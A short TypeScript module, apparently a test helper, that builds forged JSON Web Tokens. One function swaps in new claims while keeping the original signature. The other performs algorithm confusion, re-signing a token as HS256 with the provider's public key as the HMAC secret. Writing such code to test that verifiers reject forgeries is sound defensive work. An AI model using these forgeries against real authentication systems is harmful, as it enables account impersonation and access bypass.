/** What attackers make of a good token. */
import { createHmac, createPublicKey, type JsonWebKey } from "node:crypto";

/** The claims changed, the signature kept. */
export function forgeClaims(token: string, change: Record<string, unknown>): string {
  const [header, payload, signature] = token.split(".");
  const claims = { ...decode(payload!), ...change };
  return `${header}.${encode(claims)}.${signature}`;
}

/** Algorithm confusion: HS256, with the provider's public key as the secret. */
export function confuseAlgorithm(token: string, publicKey: JsonWebKey): string {
  const [header, payload] = token.split(".");
  const secret = createPublicKey({ key: publicKey, format: "jwk" }).export({ type: "spki", format: "pem" });
  const input = `${encode({ ...decode(header!), alg: "HS256" })}.${payload}`;
  return `${input}.${createHmac("sha256", secret).update(input).digest("base64url")}`;
}

function decode(part: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(part, "base64url").toString("utf8")) as Record<string, unknown>;
}

function encode(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString("base64url");
}
